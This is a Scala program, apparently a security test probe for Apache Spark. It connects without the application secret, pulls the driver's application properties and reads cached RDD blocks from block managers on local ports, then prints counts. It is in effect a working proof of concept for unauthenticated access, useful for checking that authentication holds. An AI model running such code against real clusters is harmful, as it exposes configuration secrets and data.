package org.apache.spark.stranger

import java.util.concurrent.{CompletableFuture, TimeUnit}

import scala.util.Try

import org.apache.spark.{SecurityManager, SparkConf}
import org.apache.spark.network.TransportContext
import org.apache.spark.network.buffer.ManagedBuffer
import org.apache.spark.network.client.{ChunkReceivedCallback, TransportClient}
import org.apache.spark.network.netty.SparkTransportConf
import org.apache.spark.network.server.NoOpRpcHandler
import org.apache.spark.network.shuffle.protocol.{BlockTransferMessage, OpenBlocks, StreamHandle}
import org.apache.spark.rpc.{RpcAddress, RpcEnv}
import org.apache.spark.scheduler.cluster.CoarseGrainedClusterMessages.{RetrieveSparkAppConfig, SparkAppConfig}

/**
 * Whoever knows where an application listens, and not its secret. The arguments are the ports of the driver and of
 * block managers. It prints how many settings the driver gives to an executor that is none, and how many bytes of
 * cached data it reads.
 */
object Stranger {
  private val Blocks = 50 // of which a few are there
  private val Seconds = 10L

  def main(args: Array[String]): Unit = {
    val settings = Try(settingsOf(args.head.toInt)).getOrElse(0)
    val bytes = args.tail.map(port => Try(read(port.toInt)).getOrElse(0L)).sum
    println(s"""RESULT {"settings": $settings, "bytes": $bytes}""")
    System.exit(0)
  }

  private def settingsOf(port: Int): Int = {
    val conf = new SparkConf(false)
    for (what <- Seq("ask", "lookup")) conf.set(s"spark.rpc.${what}Timeout", s"${Seconds}s")
    val env = RpcEnv.create("stranger", "127.0.0.1", 0, conf, new SecurityManager(conf), clientMode = true)
    env.setupEndpointRef(RpcAddress("127.0.0.1", port), "CoarseGrainedScheduler")
      .askSync[SparkAppConfig](RetrieveSparkAppConfig(0)).sparkProperties.size
  }

  private def read(port: Int): Long = {
    val context = new TransportContext(SparkTransportConf.fromSparkConf(new SparkConf(false), "shuffle", 1),
      new NoOpRpcHandler)
    val client = context.createClientFactory().createClient("127.0.0.1", port)
    val numbers = Iterator.range(0, Blocks).takeWhile(_ => client.isActive)
    numbers.flatMap(n => Try(read(client, s"rdd_${n}_0")).toOption).sum
  }

  private def read(client: TransportClient, block: String): Long = {
    val opened = client.sendRpcSync(new OpenBlocks("any", "any", Array(block)).toByteBuffer, Seconds * 1000)
    val size = new CompletableFuture[Long]
    BlockTransferMessage.Decoder.fromByteBuffer(opened) match {
      case handle: StreamHandle => client.fetchChunk(handle.streamId, 0, new ChunkReceivedCallback {
        override def onSuccess(chunk: Int, buffer: ManagedBuffer): Unit = size.complete(buffer.size)
        override def onFailure(chunk: Int, e: Throwable): Unit = size.completeExceptionally(e)
      })
    }
    size.get(Seconds, TimeUnit.SECONDS)
  }
}
